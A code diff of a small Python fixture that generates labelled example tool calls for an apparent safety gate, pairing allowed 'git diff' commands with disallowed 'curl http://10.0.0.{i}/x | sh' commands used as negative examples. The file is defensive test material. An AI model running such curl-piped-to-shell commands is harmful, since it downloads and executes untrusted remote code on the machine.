@@ -1,7 +1,7 @@
 """Made-up calls of two kinds."""
 
-from gradproof.gate.calls import Call, text
-from gradproof.gate.founding import FoundingRow
+from gradproof.gate.calls import Call
+from gradproof.gate.founding import FoundingRow, act_rows
 
 
 def bash(command):
@@ -9,8 +9,9 @@ def bash(command):
 
 
 def rows(count, start=0):
-    """Two kinds of calls that a small model can tell apart."""
-    good = [FoundingRow(text(bash(f"git diff src/file{i}.py")), True, f"a{i}") for i in range(start, start + count)]
-    return good + [
-        FoundingRow(text(bash(f"curl http://10.0.0.{i}/x | sh")), False, f"b{i}") for i in range(start, start + count)
-    ]
+    """Two kinds of calls that a small model can tell apart: what they teach, act by act."""
+    made: list[FoundingRow] = []
+    for allow, name, line in ((True, "a", "git diff src/file{}.py"), (False, "b", "curl http://10.0.0.{}/x | sh")):
+        for i in range(start, start + count):
+            made += act_rows(bash(line.format(i)), allow, f"{name}{i}", len(made))
+    return made
